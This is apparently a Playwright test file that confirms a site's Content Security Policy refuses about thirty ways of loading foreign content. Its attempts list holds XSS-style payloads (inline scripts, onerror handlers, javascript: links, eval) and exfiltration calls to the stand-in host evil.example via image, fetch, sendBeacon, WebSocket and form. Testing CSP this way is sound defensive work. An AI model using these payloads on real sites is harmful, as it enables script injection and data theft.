import { eventually } from '../../support/eventually';
import { setUpWorld } from '../support/world';

const world = setUpWorld();

declare global {
  interface Window {
    refused: string[];
    hacked?: number;
  }
}

/** Ways to load foreign content, run in the page, each with the directive of the policy that must refuse it. */
const attempts: readonly (readonly [what: string, directive: string, attempt: () => void])[] = [
  ['a script in the page', 'script-src-elem', () => append('script', { textContent: 'window.hacked = 1' })],
  ['a script from elsewhere', 'script-src-elem', () => append('script', { src: 'https://evil.example/x.js' })],
  ['a script as data', 'script-src-elem', () => append('script', { src: 'data:text/javascript,window.hacked=1' })],
  ['a script made on the spot', 'script-src-elem', () => append('script', { src: blobOf('window.hacked = 1') })],
  ['a module from elsewhere', 'script-src-elem', () => append('script', { type: 'module', src: 'https://evil.example/x.mjs' })],
  [
    'a handler in markup',
    'script-src-attr',
    () => append('div', { innerHTML: '<img src="/no.png" onerror="window.hacked = 1">' }),
  ],
  [
    'a handler as an attribute',
    'script-src-attr',
    () => {
      const element = append('button', {});
      element.setAttribute('onclick', 'window.hacked = 1');
      element.click();
    },
  ],
  ['a link that is a script', 'script-src-elem', () => append('a', { href: 'javascript:void(window.hacked = 1)' }).click()],
  // Code that Playwright evaluates is exempt from the policy, but the callback of a timer counts as the page's own.
  ['eval', 'script-src', () => void setTimeout(() => void (0, eval)('window.hacked = 1'))],
  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack itself
  ['a function from text', 'script-src', () => void setTimeout(() => new Function('window.hacked = 1'))],
  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack itself
  ['a timer with text', 'script-src', () => void setTimeout('window.hacked = 1')],
  ['a worker made on the spot', 'worker-src', () => void new Worker(blobOf(''))],
  ['a style in the page', 'style-src-elem', () => append('style', { textContent: 'body { display: none }' })],
  ['a style from elsewhere', 'style-src-elem', () => append('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })],
  ['a style as an attribute', 'style-src-attr', () => append('p', {}).setAttribute('style', 'position: fixed')],
  [
    'a font from elsewhere',
    'font-src',
    () => void new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => undefined),
  ],
  ['a picture from elsewhere', 'img-src', () => append('img', { src: 'https://evil.example/?stolen=1' })],
  ['a picture as data', 'img-src', () => append('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })],
  ['a film from elsewhere', 'media-src', () => append('video', { src: 'https://evil.example/x.mp4' })],
  ['a request elsewhere', 'connect-src', () => void fetch('https://evil.example/').catch(() => undefined)],
  ['a socket elsewhere', 'connect-src', () => void new WebSocket('wss://evil.example/')],
  ['events from elsewhere', 'connect-src', () => void new EventSource('https://evil.example/')],
  ['a parting word elsewhere', 'connect-src', () => void navigator.sendBeacon('https://evil.example/', 'stolen')],
  ['a frame of another site', 'frame-src', () => append('iframe', { src: 'https://evil.example/' })],
  ['a frame as data', 'frame-src', () => append('iframe', { src: 'data:text/html,x' })],
  ['a plug-in', 'object-src', () => append('object', { data: 'https://evil.example/x' })],
  ['another base for its links', 'base-uri', () => append('base', { href: 'https://evil.example/' })],
  ['a form to elsewhere', 'form-action', () => append('form', { action: 'https://evil.example/', method: 'post' }).submit()],
];

// The test defines these helpers in the page, where the attempts run.
declare const append: <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, members: object) => HTMLElementTagNameMap[Tag];
declare const blobOf: (text: string) => string;

describe.each(['/', '/rates/auth', '/no/such/page'])('on %s', (path) => {
  it(`refuses ${attempts.length} ways to load something foreign in`, async () => {
    const { page, complaints } = await world().openPage(path);
    await page.locator('h1').first().waitFor();
    await page.evaluate(() => {
      window.refused = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));
      Object.assign(window, {
        append: (tag: string, members: object) => {
          const element = Object.assign(document.createElement(tag), members);
          document.body.append(element);
          return element;
        },
        blobOf: (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' })),
      });
    });

    for (const [what, directive, attempt] of attempts) {
      await page.evaluate(() => void (window.refused = []));
      await page.evaluate(attempt);
      await eventually(async () =>
        expect([what, await page.evaluate(() => window.refused)]).toEqual([what, expect.arrayContaining([directive])]),
      );
    }
    expect(await page.evaluate(() => window.hacked)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
    expect(new URL(page.url()).origin).toBe(world().address);
    // The browser sent no refused request.
    expect(complaints.list.filter((complaint) => complaint.startsWith('outside: https://evil.example'))).toEqual([]);
  });
});
